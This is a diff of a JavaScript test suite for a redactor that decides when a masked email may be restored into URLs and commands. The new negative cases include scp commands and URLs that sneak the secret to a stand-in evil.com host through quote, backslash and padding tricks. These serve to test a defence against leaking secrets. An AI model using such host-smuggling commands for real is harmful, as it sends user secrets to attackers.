@@ -129,7 +129,10 @@ describe('a placeholder beside URLs comes back', () => {
 describe('a URL that was in the request with a value', () => {
   const url = `https://ok.com/u?m=${EMAIL}`;
   const exchange = createRedactor(policy, SECRET).forExchange('acme');
-  issue(exchange, `see ${url} or "postgres://db.ok.com/x?u=${EMAIL}"`);
+  issue(
+    exchange,
+    `see ${url} or "postgres://db.ok.com/x?u=${EMAIL}"\nhttps://ok.com?${EMAIL} //${EMAIL}:x@dbhost ${EMAIL}:x@dbhost`,
+  );
   const { text: channel, command } = channelsOf(exchange);
 
   it.each([
@@ -141,6 +144,8 @@ describe('a URL that was in the request with a value', () => {
     '<a href="https://ok.com/u?m=§">there</a>',
     'curl "https://ok.com/u?m=§" -v',
     '{"url":"https://ok.com/u?m=§","db":"postgres://db.ok.com/x?u=§"}',
+    'scp §:x@dbhost x',
+    '"//§:x@dbhost"',
     'URL=postgres://db.ok.com/x?u=§ psql',
   ])('gets it back in %j', (each) => {
     for (const way of [channel, command]) expect(resultsOf(way, filled(each, EM))).toEqual([filled(each, EMAIL)]);
@@ -158,6 +163,11 @@ describe('a URL that was in the request with a value', () => {
     'https://ok.com/u?m=§&x=1',
     'https://ok.com/u?a=1&m=§',
     'xhttps://ok.com/u?m=§',
+    '//§:x@dbhost"".evil.com/x',
+    '//§:x@dbhost\\.evil.com/x',
+    'scp §:x@dbhost"".evil.com x',
+    'scp §:x@dbhost.evil.com x',
+    `//§:x@dbhost${'"'.repeat(1200)}.evil.com/x`,
     'postgres://db.evil.com/x?u=§',
     '![x](https://ok.com/u?m= "https://ok.com/u?m=§")',
   ])('does not get it back in %j', (each) => {
